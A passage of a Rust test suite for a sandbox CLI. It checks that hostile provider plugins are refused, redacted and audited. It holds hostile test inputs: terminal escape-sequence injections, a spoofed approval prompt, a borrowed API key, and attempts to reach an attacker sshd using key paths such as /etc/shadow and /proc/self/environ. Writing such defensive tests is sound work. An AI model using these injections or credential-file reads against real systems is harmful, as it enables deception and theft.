    // An error wrapping the provider's message: error and hint lines.
    let out = h.with(&inject, &["ssh", "inj", "--print"]);
    assert_ne!(out.code, 0, "{out}");
    assert_shown_inert("ssh --print", &out);
    assert!(
        out.stderr
            .contains(&format!("error: no access {INJECT_SHOWN}")),
        "{out}"
    );

    // run: the lease, its failure and its release, in one invocation.
    let out = h.with(&inject, &["run", "--no-sync", "--", "true"]);
    assert_ne!(out.code, 0, "{out}");
    assert_shown_inert("run", &out);
    assert!(out.stderr.contains("leased cbx_"), "{out}");

    // stop: the result line names the sandbox.
    let out = h.with(&inject, &["stop", "inj"]);
    out.ok();
    assert_shown_inert("stop", &out);

    h.assert_host_keeps_working(&["mode=ok"]);
    h.assert_no_secret_leaked();
}

#[tokio::test(flavor = "multi_thread")]
async fn the_audit_view_of_a_hostile_url_is_inert() {
    let mut h = probe(NOWHERE);
    let url = "url=http://evil\x1b[2J\x1b]0;owned\x07\nerror: forged by the provider\u{202e}/x";
    // Not even a URL: the host refuses it as invalid, and audits it as the provider wrote it.
    let (out, report) = h.doctor(&["action=http", url]);
    out.expect_code(1);
    let detail = check(&report, "http-error")["detail"].as_str().unwrap();
    assert!(detail.contains("\x1b[2J"), "--json stays exact: {out}");
    let out = h.run(&["providers", "audit"]);
    out.ok();
    assert_inert("providers audit", &out);
    assert!(out.stdout.contains("GET http://evil\\x1b[2J"), "{out}");
    let out = h.run(&["providers", "audit", "--json"]);
    out.ok();
    let record: Value = serde_json::from_str(out.stdout.lines().last().unwrap()).unwrap();
    assert_eq!(record["outcome"], "invalid");
    assert!(
        record["url"].as_str().unwrap().contains("\x1b[2J"),
        "--json stays exact: {out}"
    );
    h.assert_no_secret_leaked();
}

/// Issue 11's records meet issue 10's rule: a lease still being created, and the next
/// command finishing one whose process was killed, quote the provider's sandbox id inert.
#[tokio::test(flavor = "multi_thread")]
async fn unfinished_leases_and_their_reconciliation_are_inert() {
    let mut h = Hostile::install("malformed", "malformed", &manifest("malformed", NOWHERE));
    let inject = ["mode=inject"];
    // A warmup paused right after the provider answered `create` with a hostile id.
    let log = h.home.path().join("paused-warmup.stderr");
    let mut warmup = h
        .home
        .command(&[
            "--provider",
            "malformed",
            "-o",
            "mode=inject",
            "warmup",
            "--slug",
            "unf",
        ])
        .env("CBX_TEST_PAUSE", "acquire:created")
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .expect("start cbx warmup");
    let started = Instant::now();
    while !std::fs::read_to_string(&log)
        .unwrap_or_default()
        .contains("cbx-test: paused at acquire:created")
    {
        assert!(
            started.elapsed() < PATIENCE,
            "warmup never paused: {}",
            std::fs::read_to_string(&log).unwrap_or_default()
        );
        std::thread::sleep(Duration::from_millis(20));
    }

    // `list` while it runs: the unfinished entry and its note.
    let out = h.with(&inject, &["list"]);
    out.ok();
    assert_inert("list with an unfinished lease", &out);
    assert!(
        out.stdout
            .lines()
            .any(|l| l.contains("unfinished") && l.contains(INJECT_SHOWN)),
        "the unfinished entry shows the provider's id, inert\n{out}"
    );
    assert!(
        out.stderr.contains("is being created by `cbx warmup`"),
        "{out}"
    );

    // Killed there: the next command finishes it and says so, the id still inert.
    warmup.kill().unwrap();
    warmup.wait().unwrap();
    let out = h.with(&inject, &["list"]);
    out.ok();
    assert_shown_inert("list after reconciling", &out);
    assert!(
        out.stderr
            .lines()
            .any(|l| l.starts_with("cbx: finished lease cbx_") && l.contains(INJECT_SHOWN)),
        "{out}"
    );
    let out = h.with(&inject, &["stop", "unf"]);
    out.ok();
    assert_inert("stop", &out);
    h.assert_no_secret_leaked();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_description_that_draws_on_the_approval_screen_is_refused() {
    let mut h = Hostile {
        home: new_home(),
        name: "spoof".to_string(),
        outputs: Vec::new(),
    };
    let out = h.try_install("spoof", &manifest("spoof", NOWHERE));
    out.expect_code(8);
    assert_inert("install", &out);
    assert!(
        out.stderr.contains(
            "provider spoof failed in `describe`: its description contains control characters"
        ),
        "{out}"
    );
    assert!(!out.stdout.contains("Approve"), "{out}");
    assert!(!h.home.path().join("data/cbx/providers/spoof").exists());

    // A manifest whose own description draws is refused before anything runs.
    let drawn = manifest("spoof", NOWHERE).replace(
        "description = \"adversarial test provider\"",
        "description = \"fine\\u001b[8m\"",
    );
    let out = h.try_install("spoof", &drawn);
    out.expect_code(2);
    assert_inert("install", &out);
    assert!(
        out.stderr
            .contains("the provider description contains control characters"),
        "{out}"
    );
}

/// `cbx args…` in `home`, as a shell command line for a terminal: its environment (without
/// `NO_COLOR`, so colour shows), then the command, then its exit code into `code_file`.
fn terminal_command(home: &CbxHome, args: &[&str], code_file: &Path) -> String {
    let cmd = home.command(args);
    let quote = |s: &str| format!("'{}'", s.replace('\'', "'\\''"));
    let mut line = String::from("cd ");
    line.push_str(&quote(&home.cwd.display().to_string()));
    line.push_str(" && env -i");
    for (k, v) in cmd.get_envs() {
        let (Some(v), k) = (v, k.to_string_lossy()) else {
            continue;
        };
        if k != "NO_COLOR" {
            line.push_str(&format!(
                " {}",
                quote(&format!("{k}={}", v.to_string_lossy()))
            ));
        }
    }
    line.push_str(&format!(
        " TERM=xterm-256color {}",
        quote(&cmd.get_program().to_string_lossy())
    ));
    for a in args {
        line.push(' ');
        line.push_str(&quote(a));
    }
    line.push_str(&format!(
        "; echo $? > {}; sleep 60",
        quote(&code_file.display().to_string())
    ));
    line
}

/// A tmux session running one command on a real terminal.
struct Terminal {
    session: String,
}

impl Terminal {
    fn start(command: &str) -> Terminal {
        let session = format!("cbx-test-{}", std::process::id());
        let ok = std::process::Command::new("tmux")
            .args([
                "new-session",
                "-d",
                "-x",
                "200",
                "-y",
                "50",
                "-s",
                &session,
                command,
            ])
            .status()
            .expect("run tmux");
        assert!(ok.success(), "tmux new-session failed");
        Terminal { session }
    }

    /// What the screen shows (`escapes`: with colours as escape sequences).
    fn screen(&self, escapes: bool) -> String {
        let mut args = vec!["capture-pane", "-p", "-t", &self.session];
        if escapes {
            args.push("-e");
        }
        let out = std::process::Command::new("tmux")
            .args(&args)
            .output()
            .expect("capture");
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    /// Waits until the screen shows `text`.
    #[track_caller]
    fn wait_for(&self, text: &str) -> String {
        let deadline = Instant::now() + PATIENCE;
        loop {
            let screen = self.screen(false);
            if screen.contains(text) {
                return screen;
            }
            assert!(
                Instant::now() < deadline,
                "the screen never showed {text:?}:\n{screen}"
            );
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    fn type_line(&self, text: &str) {
        let ok = std::process::Command::new("tmux")
            .args(["send-keys", "-t", &self.session, text, "Enter"])
            .status()
            .expect("send keys");
        assert!(ok.success());
    }
}

impl Drop for Terminal {
    fn drop(&mut self) {
        let _ = std::process::Command::new("tmux")
            .args(["kill-session", "-t", &self.session])
            .status();
    }
}

/// Waits for the exit code the terminal command writes.
#[track_caller]
fn exit_code(file: &Path) -> i32 {
    let deadline = Instant::now() + PATIENCE;
    loop {
        if let Ok(text) = std::fs::read_to_string(file)
            && let Ok(code) = text.trim().parse()
        {
            return code;
        }
        assert!(Instant::now() < deadline, "the command never finished");
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_approval_prompt_on_a_real_terminal_shows_the_hosts_facts_and_flags_a_borrowed_key() {
    if std::process::Command::new("tmux")
        .arg("-V")
        .output()
        .is_err()
    {
        eprintln!(
            "SKIPPED: tmux is not installed (tests/setup.sh installs it); the approval prompt was not tested on a terminal"
        );
        return;
    }
    let home = new_home();
    // A printable but deceptive description, and Daytona's key as its credential.
    let text = manifest("probe", "https://api.example.test")
        .replace(
            "description = \"adversarial test provider\"",
            "description = \"network: none. Approve provider probe with no capabilities? [y/N]\"",
        )
        .replace("env = \"EVIL_KEY\"", "env = \"DAYTONA_API_KEY\"");
    let file = home.path().join("probe.toml");
    std::fs::write(&file, text).unwrap();
    let wasm = guests::path("probe").display().to_string();
    let args = [
        "providers",
        "install",
        &wasm,
        "--manifest",
        file.to_str().unwrap(),
    ];

    for (answer, code) in [("n", 7), ("y", 0)] {
        let code_file = home.path().join(format!("exit-{answer}"));
        let term = Terminal::start(&terminal_command(&home, &args, &code_file));
        let screen = term.wait_for("[y/N]");
        // The provider's words are fenced; the host's facts are the host's.
        assert!(
            screen.contains(
                "  │ manifest: network: none. Approve provider probe with no capabilities? [y/N]"
            ),
            "{screen}"
        );
        assert!(
            screen.contains(
                "\n  network: requests under https://api.example.test/api (endpoint `api`)"
            ),
            "{screen}"
        );
        assert!(
            screen.contains("credential `evil-key`: the value of DAYTONA_API_KEY"),
            "{screen}"
        );
        assert!(screen.contains("WARNING: credential `evil-key` reads DAYTONA_API_KEY, the variable of provider daytona's credential `api-key` (built into cbx)"), "{screen}");
        assert!(
            screen.contains("Approve provider probe with exactly these capabilities? [y/N]"),
            "{screen}"
        );
        let coloured = term.screen(true);
        let warning = coloured
            .lines()
            .find(|l| l.contains("WARNING: credential"))
            .unwrap();
        assert!(
            warning.contains("\x1b[1;31m")
                || warning.contains("\x1b[1m\x1b[31m")
                || warning.contains("31m"),
            "the warning is not red: {warning:?}"
        );
        term.type_line(answer);
        assert_eq!(exit_code(&code_file), code, "{}", term.screen(false));
        let installed = home.path().join("data/cbx/providers/probe").exists();
        assert_eq!(installed, answer == "y", "{}", term.screen(false));
    }

    // `providers inspect` says it too.
    let out = run_timed(&home, &["providers", "inspect", "probe"], &[]);
    out.ok();
    assert!(
        out.stdout
            .contains("WARNING: credential `evil-key` reads DAYTONA_API_KEY"),
        "{out}"
    );
    let out = run_timed(&home, &["providers", "inspect", "probe", "--json"], &[]);
    assert_eq!(
        out.json()["sharedCredentials"][0]["provider"],
        "daytona",
        "{out}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_changed_manifest_needs_approval_again_and_shows_what_changed() {
    let granted = open_server().await;
    let mut h = probe(&granted.uri());
    let original = manifest("probe", &granted.uri());
    let quieter = original.replace(
        "[credentials.evil-key]",
        "[credentials.evil-key]\nsecret = false",
    );
    let file = h.home.path().join("probe.toml");
    std::fs::write(&file, &quieter).unwrap();
    let wasm = guests::path("probe").display().to_string();
    let out = h.run(&[
        "providers",
        "install",
        &wasm,
        "--manifest",
        file.to_str().unwrap(),
    ]);
    out.expect_code(7);
    assert!(
        out.stdout.contains("Changed since you approved it:"),
        "{out}"
    );
    assert!(
        out.stdout.contains("~ credential `evil-key`: EVIL_KEY as `Authorization: Bearer …` to endpoint `api`, secret (redacted everywhere) → EVIL_KEY as `Authorization: Bearer …` to endpoint `api`, NOT secret"),
        "{out}"
    );
    assert!(out.stderr.contains("probe changed since you approved it; installing it needs your approval again, and nothing was installed"), "{out}");
    assert!(
        out.stderr
            .contains("hint: review the capabilities and the changes above, then rerun with --yes"),
        "{out}"
    );
    let installed = std::fs::read_to_string(
        h.home
            .path()
            .join("data/cbx/providers/probe/cbx-provider.toml"),
    )
    .unwrap();
    assert_eq!(installed, original, "the changed manifest was installed");
    // The approved provider still works as approved.
    let (out, report) = h.doctor(PROBE_OK);
    out.ok();
    assert_eq!(report["ok"], true);

    // The same manifest again: nothing to ask.
    std::fs::write(&file, &original).unwrap();
    let out = h.run(&[
        "providers",
        "install",
        &wasm,
        "--manifest",
        file.to_str().unwrap(),
    ]);
    out.ok();
    assert!(!out.stdout.contains("Changed since"), "{out}");
    h.assert_no_secret_leaked();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_flood_is_stopped_at_the_cap_and_audited_once() {
    let granted = open_server().await;
    let mut h = probe(&granted.uri());
    let url = format!("url={}/api/flood", granted.uri());
    let (out, report) = h.doctor(&["action=http", &url, "count=9000"]);
    out.expect_code(8);
    let detail = failed_call(&report);
    assert!(
        detail.contains("provider probe failed in `doctor`: exceeded its cap of 500 HTTP requests per call (requests-per-call)"),
        "{out}"
    );
    assert_eq!(granted.received_requests().await.unwrap().len(), 500);
    let records = h.audit();
    let requests = records.iter().filter(|r| r["kind"] == "request").count();
    let limits: Vec<&Value> = records.iter().filter(|r| r["kind"] == "limit").collect();
    assert_eq!(requests, 500, "one record per request sent");
    assert_eq!(limits.len(), 1, "the cap is audited once: {limits:#?}");
    assert!(
        limits[0]["detail"]
            .as_str()
            .unwrap()
            .contains("requests-per-call")
    );

    // The user lowers the caps; a manifest may set its own.
    h.home
        .write_config("[providers.probe.limits]\nrequests-per-run = 3\n");
    let (out, report) = h.doctor(&["action=http", &url, "count=5"]);
    out.expect_code(8);
    assert!(
        failed_call(&report)
            .contains("exceeded its cap of 3 HTTP requests per run (requests-per-run)"),
        "{out}"
    );
    h.home.write_config("");
    let capped = format!(
        "{}\n[limits]\nrequests-per-call = 10\n",
        manifest("probe", &granted.uri())
    );
    h.try_install("probe", &capped).ok();
    let (out, report) = h.doctor(&["action=http", &url, "count=11"]);
    out.expect_code(8);
    assert!(
        failed_call(&report).contains("cap of 10 HTTP requests per call"),
        "{out}"
    );
    h.assert_host_keeps_working(PROBE_OK);
    h.assert_no_secret_leaked();
}

#[tokio::test(flavor = "multi_thread")]
async fn requests_cannot_rotate_a_denial_out_of_the_audit_log() {
    let granted = open_server().await;
    let outside = open_server().await;
    let mut h = probe(&granted.uri());
    let planted = format!("{}/planted", outside.uri());
    let (out, _) = h.doctor(&["action=http", &format!("url={planted}")]);
    out.expect_code(7);
    let url = format!("url={}/api/flood", granted.uri());
    let log = h.home.path().join("state/cbx/audit.jsonl");
    // Twice: a requests file already full (as 19 floods would leave it), then a flood.
    for _ in 0..2 {
        let file = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(&log)
            .unwrap();
        file.set_len(17 << 20).unwrap();
        let (out, _) = h.doctor(&["action=http", &url, "count=9000"]);
        out.expect_code(8);
    }
    for args in [&["--alerts"][..], &[][..]] {
        let mut all = vec!["providers", "audit", "--json", "--last", "100000"];
        all.extend_from_slice(args);
        let out = h.run(&all);
        out.ok();
        assert!(
            out.stdout
                .lines()
                .any(|l| l.contains("\"kind\":\"denied\"") && l.contains(&planted)),
            "the planted denial is gone from `providers audit {}`\n{out}",
            args.join(" ")
        );
    }
    h.assert_no_secret_leaked();
}

/// Runs `cbx args…` in `home` under `/usr/bin/time -v`: the output and cbx's peak RSS in KiB.
fn run_measured(home: &CbxHome, args: &[&str]) -> (Output, u64) {
    let cmd = home.command(args);
    let mut timed = std::process::Command::new("/usr/bin/time");
    timed
        .arg("-v")
        .arg(cmd.get_program())
        .args(cmd.get_args())
        .current_dir(&home.cwd)
        .env_clear();
    for (k, v) in cmd.get_envs() {
        if let Some(v) = v {
            timed.env(k, v);
        }
    }
    let out = tokio::task::block_in_place(|| timed.output()).expect("run /usr/bin/time");
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let peak = stderr
        .lines()
        .find_map(|l| {
            l.trim()
                .strip_prefix("Maximum resident set size (kbytes): ")
        })
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or_else(|| panic!("no peak RSS in {stderr}"));
    let out = Output {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr,
    };
    (out, peak)
}

#[tokio::test(flavor = "multi_thread")]
async fn oversized_strings_and_lists_are_refused_naming_the_field() {
    let mut h = Hostile::install("malformed", "malformed", &manifest("malformed", NOWHERE));
    // A 48 MiB error message: a clear error, not a 48 MiB print, and little memory.
    let size = format!("size={}", 48 << 20);
    let args = [
        "--provider",
        "malformed",
        "-o",
        "mode=huge-error",
        "-o",
        &size,
        "list",
    ];
    let (out, peak_kib) = if Path::new("/usr/bin/time").exists() {
        run_measured(&h.home, &args)
    } else {
        eprintln!("note: /usr/bin/time is missing; peak RSS not measured");
        (run_timed(&h.home, &args, &[]), 0)
    };
    out.expect_code(8);
    assert!(
        out.stderr.contains(&format!("provider malformed failed in `list`: its error message of {} bytes is over the cap of 8192 bytes", 48 << 20)),
        "{out}"
    );
    assert!(
        out.stderr.len() < 16 << 10 && out.stdout.len() < 1024,
        "{} bytes printed",
        out.stderr.len()
    );
    eprintln!(
        "peak RSS with a 48 MiB error string: {} MiB",
        peak_kib >> 10
    );
    assert!(peak_kib < 200 << 10, "cbx peaked at {} MiB", peak_kib >> 10);
    assert_eq!(h.audited("limit", "list").len(), 1, "{:#?}", h.audit());

    let out = h.with(&["mode=huge-name", "size=1048576"], &["list"]);
    out.expect_code(8);
    assert!(
        out.stderr
            .contains("its sandbox name of 1048576 bytes is over the cap of 256 bytes"),
        "{out}"
    );
    let out = h.with(&["mode=huge-list", "count=20000", "size=1"], &["list"]);
    out.expect_code(8);
    assert!(
        out.stderr
            .contains("its sandbox list of 20000 entries is over the cap of 10000 entries"),
        "{out}"
    );
    h.outputs.push(out);
    h.assert_host_keeps_working(&["mode=ok"]);
    h.assert_no_secret_leaked();
}

#[tokio::test(flavor = "multi_thread")]
async fn an_oversized_request_body_is_never_sent() {
    let granted = open_server().await;
    let mut h = probe(&granted.uri());
    let url = format!("url={}/api/upload", granted.uri());
    let (out, report) = h.doctor(&["action=http", "method=post", &url, "body-bytes=20971520"]);
    out.expect_code(8);
    assert!(
        failed_call(&report)
            .contains("its request body of 20971520 bytes is over the cap of 1048576 bytes"),
        "{out}"
    );
    assert!(granted.received_requests().await.unwrap().is_empty());
    assert_eq!(h.audited("limit", "doctor").len(), 1, "{:#?}", h.audit());
    h.assert_host_keeps_working(PROBE_OK);
    h.assert_no_secret_leaked();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_log_flood_is_cut_at_the_per_run_budget_with_one_notice() {
    let mut h = Hostile::install("malformed", "malformed", &manifest("malformed", NOWHERE));
    let out = h.with(&["mode=log-flood"], &["warmup"]);
    out.ok();
    let shown = out
        .stderr
        .lines()
        .filter(|l| l.contains("flood line"))
        .count();
    assert_eq!(shown, 5000, "{} lines shown", shown);
    let notices = out
        .stderr
        .matches("logged more than 5000 lines in this run; dropping the rest")
        .count();
    assert_eq!(notices, 1, "{out}");
    h.assert_no_secret_leaked();
}

/// A service that echoes the request's `Authorization` header back, base64-encoded in every
/// alphabet, and URL-encoded.
struct EchoEncoded;

impl wiremock::Respond for EchoEncoded {
    fn respond(&self, request: &wiremock::Request) -> ResponseTemplate {
        use base64::Engine as _;
        use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
        let auth = request
            .headers
            .get("authorization")
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_string();
        let key = auth.trim_start_matches("Bearer ");
        ResponseTemplate::new(200).set_body_string(format!(
            "{{\"whole\":\"{}\",\"key\":\"{}\",\"url\":\"{}\",\"query\":\"{}\"}}",
            STANDARD.encode(&auth),
            URL_SAFE_NO_PAD.encode(key),
            percent_encoding::utf8_percent_encode(key, percent_encoding::NON_ALPHANUMERIC),
            STANDARD.encode(format!("user:{key}"))
        ))
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_credential_echoed_back_encoded_is_scrubbed() {
    let granted = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/api/echo"))
        .respond_with(EchoEncoded)
        .mount(&granted)
        .await;
    let mut h = probe(&granted.uri());
    let url = format!("url={}/api/echo", granted.uri());
    let (out, report) = h.doctor(&["action=http", &url]);
    out.ok();
    let body = check(&report, "body")["detail"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(
        body.matches("<redacted>").count(),
        4,
        "every encoded echo is scrubbed: {body}"
    );
    h.assert_no_secret_leaked();
}

// ---------------------------------------------------------------------------------------------
// The data plane (issue 10): where the user's files go, and with which key

/// A server where a hostile provider would like the user's files to go: a real sshd that
/// would accept the user's key (as root, as in CI), or else a plain TCP listener. Either way
/// any connection shows.
struct Attacker {
    sshd: Option<Sshd>,
    /// Connections the sshd logged before the test began (its own readiness probe).
    baseline: usize,
    listener: Option<TcpListener>,
    /// The user's own private key, which the attacker's sshd would accept.
    key: PathBuf,
    _user: Option<SshUser>,
}

impl Attacker {
    fn start(home: &CbxHome) -> Attacker {
        if SshdGateway::unavailable().is_none() {
            let user = SshUser::create().expect("create the user whose key is at stake");
            let sshd = Sshd::start_with_pubkey().expect("start the attacker's sshd");
            // Starting it connects once to see that it listens; wait for that to be logged.
            let started = Instant::now();
            while !sshd.log().contains("Connection closed") && started.elapsed() < PATIENCE {
                std::thread::sleep(Duration::from_millis(20));
            }
            return Attacker {
                key: user.key().to_path_buf(),
                baseline: sshd.log().matches("Connection from").count(),
                sshd: Some(sshd),
                listener: None,
                _user: Some(user),
            };
        }
        eprintln!("not root: the attacker is a TCP listener instead of a second sshd");
        let dir = home.path().join(".ssh");
        std::fs::create_dir_all(&dir).unwrap();
        let key = dir.join("id_ed25519");
        let status = std::process::Command::new("ssh-keygen")
            .args(["-q", "-t", "ed25519", "-N", "", "-f"])
            .arg(&key)
            .status()
            .expect("run ssh-keygen");
        assert!(status.success());
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Attacker {
            sshd: None,
            baseline: 0,
            listener: Some(listener),
            key,
            _user: None,
        }
    }

    fn port(&self) -> u16 {
        match (&self.sshd, &self.listener) {
            (Some(s), _) => s.port(),
            (None, Some(l)) => l.local_addr().unwrap().port(),
            (None, None) => unreachable!(),
        }
    }

    /// `127.0.0.1:PORT`.
    fn destination(&self) -> String {
        format!("127.0.0.1:{}", self.port())
    }

    #[track_caller]
    fn assert_untouched(&self) {
        if let Some(sshd) = &self.sshd {
            let log = sshd.log();
            assert!(
                log.matches("Connection from").count() == self.baseline
                    && !log.contains("Accepted"),
                "the attacker's sshd saw a connection:\n{log}"
            );
        }
        if let Some(l) = &self.listener {
            match l.accept() {
                Err(e) if e.kind() == IoErrorKind::WouldBlock => {}
                other => panic!("the attacker's listener saw a connection: {other:?}"),
            }
        }
    }
}

/// A variable forwarded with `--env` in these tests; its value must go nowhere.
const FORWARDED: &str = "forwarded-env-value-93c1d7a2";

/// The malformed provider installed under a manifest whose `[ssh]` section is `ssh` (none if
/// empty), in a home whose working directory is a git repository worth stealing.
fn data_plane_provider(ssh: &str) -> Hostile {
    let mut h = Hostile::install(
        "malformed",
        "malformed",
        &format!("{}{ssh}", manifest("malformed", NOWHERE)),
    );
    h.home.env("SECRET_NAME", FORWARDED);
    h.home.git(&["init", "-q"]);
    h.home.write_file(
        "src/lib.rs",
        "pub const SOURCE: &str = \"the user's code\";\n",
    );
    h.home.write_file("notes.txt", "untracked, not ignored\n");
    h.home.git(&["add", "src"]);
    h
}

impl Hostile {
    /// Nothing about the data plane happened: no host key was learnt, no access cached, no
    /// sync, `--env` or allowed SSH record written; the forwarded value is nowhere.
    #[track_caller]
    fn assert_nothing_sent(&mut self, attacker: &Attacker) {
        attacker.assert_untouched();
        let known_hosts = self.home.state_dir().join("known_hosts");
        assert!(
            !known_hosts.exists(),
            "known_hosts was written: {:?}",
            std::fs::read_to_string(&known_hosts)
        );
        let records = self.audit();
        let sent: Vec<&Value> = records
            .iter()
            .filter(|r| ["ssh", "sync", "env"].contains(&r["kind"].as_str().unwrap_or("")))
            .collect();
        assert!(sent.is_empty(), "the data plane was used: {sent:#?}");
        let outputs: Vec<&Output> = self.outputs.iter().collect();
        self.home
            .assert_secret_absent(FORWARDED, &outputs, &[BAIT_DIR]);
    }

    /// The `denied` records of the data plane (`mint-ssh-access` or `cached-ssh-access`).
    fn ssh_denials(&mut self) -> Vec<Value> {
        self.audit()
            .into_iter()
            .filter(|r| {
                r["kind"] == "denied"
                    && r["operation"]
                        .as_str()
                        .unwrap_or("")
                        .ends_with("ssh-access")
            })
            .collect()
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn ssh_access_to_a_server_outside_the_grant_gets_nothing() {
    let mut h = data_plane_provider("\n[ssh]\ndestinations = [\"ssh.example.test:22\"]\n");
    let attacker = Attacker::start(&h.home);
    let port = format!("dest-port={}", attacker.port());
    let denied = format!(
        "provider malformed was denied SSH {}: it is outside the granted SSH destinations (ssh.example.test:22)",
        attacker.destination()
    );

    // The attack of the issue: a one-shot run with a forwarded secret.
    let out = h.with(
        &[&port],
        &["run", "--env", "SECRET_NAME", "--", "make", "test"],
    );
    out.expect_code(7);
    assert!(out.stderr.contains(&denied), "{out}");
    assert!(out.stderr.contains("hint: nothing was sent"), "{out}");

    // An existing lease: run, ssh and ssh --print are refused alike.
    let lease = malformed_lease(&mut h);
    for args in [
        vec![
            "run",
            "--id",
            lease.as_str(),
            "--env",
            "SECRET_NAME",
            "--",
            "true",
        ],
        vec!["ssh", lease.as_str(), "--", "true"],
        vec!["ssh", lease.as_str(), "--print"],
    ] {
        let out = h.with(&[&port], &args);
        out.expect_code(7);
        assert!(out.stderr.contains(&denied), "{args:?}\n{out}");
        assert!(!out.stdout.contains("ssh "), "{out}");
    }
    let denials = h.ssh_denials();
    assert_eq!(denials.len(), 4, "{denials:#?}");
    for d in &denials {
        assert_eq!(d["provider"], "malformed");
        assert_eq!(d["operation"], "mint-ssh-access");
        assert_eq!(d["destination"], attacker.destination().as_str());
        assert!(d["detail"].as_str().unwrap().contains(&denied), "{d}");
    }
    assert_eq!(denials[1]["lease"], lease.as_str());
    // Denied access is not cached: nothing to read back later.
    let cache = h
        .home
        .state_dir()
        .join("secrets")
        .join(&lease)
        .join("access.json");
    assert!(!cache.exists(), "denied access was cached");
    h.assert_nothing_sent(&attacker);
    h.assert_host_keeps_working(&["mode=ok"]);
    h.assert_no_secret_leaked();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_provider_that_declares_no_ssh_destination_reaches_none() {
    let mut h = data_plane_provider("");
    let attacker = Attacker::start(&h.home);
    let port = format!("dest-port={}", attacker.port());
    let out = h.with(&[&port], &["run", "--env", "SECRET_NAME", "--", "true"]);
    out.expect_code(7);
    assert!(
        out.stderr.contains(&format!(
            "provider malformed was denied SSH {}: its grant allows no SSH destination at all",
            attacker.destination()
        )),
        "{out}"
    );
    assert_eq!(h.ssh_denials().len(), 1);
    h.assert_nothing_sent(&attacker);
}

#[tokio::test(flavor = "multi_thread")]
async fn cached_access_read_back_from_disk_is_checked_again() {
    let mut h = data_plane_provider("\n[ssh]\ndestinations = [\"ssh.example.test:22\"]\n");
    let attacker = Attacker::start(&h.home);
    let lease = malformed_lease(&mut h);
    // Access cached by an older cbx, or planted: it leads to the attacker.
    let sandbox = h.with(&["mode=ok"], &["status", &lease, "--json"]).json()["sandboxId"]
        .as_str()
        .expect("sandboxId")
        .to_string();
    let dir = h.home.state_dir().join("secrets").join(&lease);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("access.json"),
        serde_json::json!({
            "sandboxId": sandbox,
            "target": {"user": "cbx", "userIsSecret": false, "host": "127.0.0.1",
                       "port": attacker.port(), "identityFile": null},
            "expiresAt": null,
            "mintedAt": "2026-01-01T00:00:00Z"
        })
        .to_string(),
    )
    .unwrap();
    // The provider would mint 127.0.0.1:22; the denial names the cached destination.
    let out = h.with(
        &["mode=ok"],
        &["run", "--id", &lease, "--env", "SECRET_NAME", "--", "true"],
    );
    out.expect_code(7);
    assert!(
        out.stderr.contains(&format!(
            "provider malformed was denied SSH {}: it is outside the granted SSH destinations",
            attacker.destination()
        )),
        "{out}"
    );
    let denials = h.ssh_denials();
    assert_eq!(denials.len(), 1, "{denials:#?}");
    assert_eq!(denials[0]["operation"], "cached-ssh-access");
    assert_eq!(denials[0]["lease"], lease.as_str());
    h.assert_nothing_sent(&attacker);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_provider_never_picks_the_key_even_for_a_destination_you_approved() {
    // The user approved the attacker's address as a destination; the provider still may not
    // choose the key cbx logs in with.
    let mut h = data_plane_provider("");
    let attacker = Attacker::start(&h.home);
    let manifest_text = format!(
        "{}\n[ssh]\ndestinations = [\"{}\"]\n",
        manifest("malformed", NOWHERE),
        attacker.destination()
    );
    h.try_install("malformed", &manifest_text).ok();
    let port = format!("dest-port={}", attacker.port());
    let user_key = attacker.key.display().to_string();
    for key in [
        user_key.as_str(),
        "~/.ssh/id_ed25519",
        "/etc/shadow",
        "/proc/self/environ",
        "/home/user/.ssh/id_ed25519\\",
    ] {
        let key_opt = format!("key={key}");
        let started = Instant::now();
        let out = h.with(
            &[&port, &key_opt],
            &["run", "--env", "SECRET_NAME", "--", "true"],
        );
        out.expect_code(7);
        assert!(
            out.stderr.contains(&format!(
                "provider malformed was denied SSH {}: it named the key file `{key}`; a provider never chooses a key",
                attacker.destination()
            )),
            "{key}\n{out}"
        );
        assert!(
            started.elapsed() < Duration::from_secs(10),
            "{key}: no waiting"
        );
    }
    assert_eq!(h.ssh_denials().len(), 5);
    h.assert_nothing_sent(&attacker);
    h.assert_no_secret_leaked();
}

#[tokio::test(flavor = "multi_thread")]
async fn the_users_key_option_is_the_only_key_and_it_is_checked() {
    let mut h = data_plane_provider("");
    let attacker = Attacker::start(&h.home);
    let manifest_text = format!(
        "{}\n[options]\nuser-only = [\"user-key\"]\n[ssh]\ndestinations = [\"{}\"]\nidentity-option = \"user-key\"\n",
        manifest("malformed", NOWHERE),
        attacker.destination()
    );
    h.try_install("malformed", &manifest_text).ok();
    let port = format!("dest-port={}", attacker.port());

    // A key other than the one the user set is refused.
    let user_key = format!("user-key={}", attacker.key.display());
    let lease = malformed_lease(&mut h);
    let out = h.with(
        &[&port, &user_key, "key=/root/.ssh/other"],
        &["ssh", &lease, "--print"],
    );
    out.expect_code(7);
    assert!(
        out.stderr.contains(
            "it named the key file `/root/.ssh/other`, not the one you set in option `user-key`"
        ),
        "{out}"
    );

    // The user's own value is checked: system files and paths ssh would misread are refused
    // before any connection (exit 2), not after a 120 s wait.
    for (path, says) in [
        ("/etc/shadow", "is under /etc, where no SSH key belongs"),
